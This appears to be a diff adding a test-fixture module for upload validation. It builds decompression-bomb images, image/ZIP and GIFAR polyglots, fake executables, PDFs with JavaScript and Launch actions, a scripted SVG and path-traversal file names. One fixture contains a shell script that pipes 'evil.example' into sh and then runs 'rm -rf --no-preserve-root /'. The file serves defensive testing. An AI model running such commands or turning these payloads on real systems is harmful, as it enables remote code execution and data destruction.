@@ -1,0 +1,160 @@
+import { deflateSync } from "node:zlib";
+import sharp from "sharp";
+
+/** Hand-made files for the upload tests: PNG chunks, decompression bombs, polyglots, programs. */
+
+export function crc32(bytes: Buffer): number {
+  let c = ~0;
+  for (const b of bytes) {
+    c ^= b;
+    for (let k = 0; k < 8; k++) c = c & 1 ? (c >>> 1) ^ 0xedb88320 : c >>> 1;
+  }
+  return ~c >>> 0;
+}
+
+function pngChunk(type: string, data: Buffer): Buffer {
+  const len = Buffer.alloc(4);
+  len.writeUInt32BE(data.length);
+  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
+  const crc = Buffer.alloc(4);
+  crc.writeUInt32BE(crc32(body));
+  return Buffer.concat([len, body, crc]);
+}
+
+const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
+
+function png(width: number, height: number, bitDepth: number, colourType: number, idat: Buffer): Buffer {
+  const ihdr = Buffer.alloc(13);
+  ihdr.writeUInt32BE(width, 0);
+  ihdr.writeUInt32BE(height, 4);
+  ihdr.set([bitDepth, colourType, 0, 0, 0], 8);
+  return Buffer.concat([PNG_SIGNATURE, pngChunk("IHDR", ihdr), pngChunk("IDAT", idat), pngChunk("IEND", Buffer.alloc(0))]);
+}
+
+/** A PNG whose header claims width x height RGB pixels, in a few dozen bytes (the pixel data is missing). */
+export function pngHeaderOnly(width: number, height: number): Buffer {
+  return png(width, height, 8, 2, deflateSync(Buffer.alloc(64)));
+}
+
+/**
+ * A complete, valid black PNG of width x height at 1 bit per pixel: every row is there, so it really
+ * decodes to width*height pixels, yet it compresses about a thousand to one.
+ */
+export function compressiblePng(width: number, height: number): Buffer {
+  const row = Buffer.alloc(1 + Math.ceil(width / 8));
+  const deflated = deflateSync(Buffer.concat(Array.from({ length: height }, () => row)), { level: 9 });
+  return png(width, height, 1, 0, deflated);
+}
+
+/** A GIF whose screen and only frame claim width x height pixels (at most 65535 each). */
+export function gifHeaderOnly(width: number, height: number): Buffer {
+  const header = Buffer.alloc(13);
+  header.write("GIF89a", 0, "latin1");
+  header.writeUInt16LE(width, 6);
+  header.writeUInt16LE(height, 8);
+  header.set([0x80, 0, 0], 10); // a two-colour global table
+  const descriptor = Buffer.alloc(10);
+  descriptor[0] = 0x2c;
+  descriptor.writeUInt16LE(width, 5);
+  descriptor.writeUInt16LE(height, 7);
+  return Buffer.concat([header, Buffer.from([0, 0, 0, 255, 255, 255]), descriptor, Buffer.from([2, 2, 0x44, 0x01, 0, 0x3b])]);
+}
+
+/** A ZIP (stored, no compression) holding the given files: appended to an image it makes a polyglot. */
+export function zipOf(files: Record<string, string>): Buffer {
+  const locals: Buffer[] = [];
+  const centrals: Buffer[] = [];
+  let offset = 0;
+  for (const [name, text] of Object.entries(files)) {
+    const nameBytes = Buffer.from(name);
+    const data = Buffer.from(text);
+    const crc = crc32(data);
+    const local = Buffer.alloc(30);
+    local.writeUInt32LE(0x04034b50, 0);
+    local.writeUInt16LE(10, 4);
+    local.writeUInt32LE(crc, 14);
+    local.writeUInt32LE(data.length, 18);
+    local.writeUInt32LE(data.length, 22);
+    local.writeUInt16LE(nameBytes.length, 26);
+    const central = Buffer.alloc(46);
+    central.writeUInt32LE(0x02014b50, 0);
+    central.writeUInt16LE(20, 4);
+    central.writeUInt16LE(10, 6);
+    central.writeUInt32LE(crc, 16);
+    central.writeUInt32LE(data.length, 20);
+    central.writeUInt32LE(data.length, 24);
+    central.writeUInt16LE(nameBytes.length, 28);
+    central.writeUInt32LE(offset, 42);
+    locals.push(local, nameBytes, data);
+    centrals.push(central, nameBytes);
+    offset += local.length + nameBytes.length + data.length;
+  }
+  const directory = Buffer.concat(centrals);
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(0x06054b50, 0);
+  end.writeUInt16LE(Object.keys(files).length, 8);
+  end.writeUInt16LE(Object.keys(files).length, 10);
+  end.writeUInt32LE(directory.length, 12);
+  end.writeUInt32LE(offset, 16);
+  return Buffer.concat([...locals, directory, end]);
+}
+
+export const SCRIPT_MARKER = "<script>alert('polyglot')</script>";
+export const HTML_PAYLOAD = Buffer.from(`<!doctype html><html><body>${SCRIPT_MARKER}</body></html>`);
+export const ZIP_PAYLOAD = zipOf({ "evil.html": HTML_PAYLOAD.toString(), "run.sh": "#!/bin/sh\necho owned\n" });
+/** GIFAR: a GIF with a Java archive behind it. */
+export const JAR_PAYLOAD = zipOf({ "META-INF/MANIFEST.MF": "Manifest-Version: 1.0\nMain-Class: Evil\n", "Evil.class": "\xca\xfe\xba\xbe" });
+
+/** Programs and scripts to rename as images and documents. */
+export const PROGRAMS: Record<string, Buffer> = {
+  elf: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56), Buffer.alloc(2000, 0x90)]),
+  pe: (() => {
+    const b = Buffer.alloc(1024);
+    b.write("MZ", 0, "latin1");
+    b.writeUInt32LE(0x80, 0x3c);
+    b.write("PE\0\0", 0x80, "latin1");
+    return b;
+  })(),
+  shell: Buffer.from("#!/bin/sh\ncurl http://evil.example/x | sh\nrm -rf --no-preserve-root /\n"),
+};
+
+/** A JPEG with a script in a comment (COM) segment right after its start marker. */
+export function jpegWithComment(jpeg: Buffer, comment: string): Buffer {
+  const text = Buffer.from(comment);
+  const segment = Buffer.alloc(4);
+  segment.writeUInt16BE(0xfffe, 0);
+  segment.writeUInt16BE(text.length + 2, 2);
+  return Buffer.concat([jpeg.subarray(0, 2), segment, text, jpeg.subarray(2)]);
+}
+
+/** A small photo-like image (noise, so truncation cuts real data) in the given format. */
+export function testImage(format: "jpeg" | "png" | "gif" | "webp", width = 320, height = 240): Promise<Buffer> {
+  const noise = sharp({ create: { width, height, channels: 3, background: "#000", noise: { type: "gaussian", mean: 128, sigma: 40 } } });
+  return noise.toFormat(format).toBuffer();
+}
+
+/** PDFs: a plain one, and ones that would run a script or launch a program when opened. */
+export const PDFS = {
+  plain: Buffer.from("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"),
+  javascript: Buffer.from("%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert('polyglot')) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"),
+  escapedJavascript: Buffer.from("%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"),
+  launch: Buffer.from("%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"),
+  /** An HTML page that merely starts like a PDF. */
+  htmlPolyglot: Buffer.concat([Buffer.from("%PDF-1.4\n"), HTML_PAYLOAD]),
+};
+
+export const SVG_WITH_SCRIPT = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert('svg')</script></svg>`);
+
+/** File names that try to escape the storage folder or to mislead whoever reads them. */
+export const HOSTILE_NAMES = [
+  "../../etc/passwd.jpg",
+  "..\\..\\x.png",
+  "/etc/cron.d/evil.png",
+  "C:\\Windows\\System32\\evil.jpg",
+  "....//....//up.jpg",
+  "%2e%2e%2fencoded.jpg",
+  "nul\u0000byte.jpg",
+  "invoice\u202Egnp.exe.jpg",
+  `${"long".repeat(300)}.jpg`,
+  "新しい 画像 😀.jpg",
+];
